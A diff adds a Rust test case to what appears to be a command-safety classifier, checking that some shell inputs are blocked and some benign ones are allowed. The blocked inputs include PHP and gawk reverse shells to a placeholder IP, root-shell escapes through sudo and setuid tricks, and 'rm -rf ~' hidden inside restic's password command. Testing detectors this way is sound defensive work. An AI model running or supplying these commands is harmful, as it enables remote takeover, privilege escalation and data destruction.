@@ -577,3 +577,40 @@ fn credentials_by_shape_wherever_they_stand() {
         "echo 'Build_v2.0.1 done'",
     ]);
 }
+
+#[test]
+fn reverse_shells_privileged_shells_and_carried_commands() {
+    judged(
+        "network.reverse_shell",
+        Block,
+        &[
+            "php -r '$sock=fsockopen(\"198.51.100.7\",53);exec(\"/bin/sh -i 0<&3 1>&3 2>&3\");'",
+            "gawk 'BEGIN {s = \"/inet/tcp/0/198.51.100.7/443\"; while (1) {printf \"> \" |& s; s |& getline c; system(c)}}'",
+        ],
+    );
+    judged(
+        "privilege.root_shell",
+        Block,
+        &[
+            "ionice /bin/sh -p",
+            "distcc /bin/sh -p",
+            "bash -p",
+            "sudo ftp\n!/bin/sh",
+            "echo 'execute_process(COMMAND /bin/sh)' > CMakeLists.txt\nsudo cmake .",
+        ],
+    );
+    judged(
+        "deletion.recursive_force",
+        Block,
+        &[
+            "restic --password-command='rm -rf ~' backup",
+            "RESTIC_PASSWORD_COMMAND='rm -rf ~' restic backup",
+        ],
+    );
+    allowed(&[
+        "rsync -e 'ssh -p 9000' host.example.org:src/ dst/",
+        "mosh --ssh='ssh -p 2222' alice@host.example.org",
+        "python3 -c 'import socket; print(socket.gethostname())'",
+        "git --exec-path",
+    ]);
+}
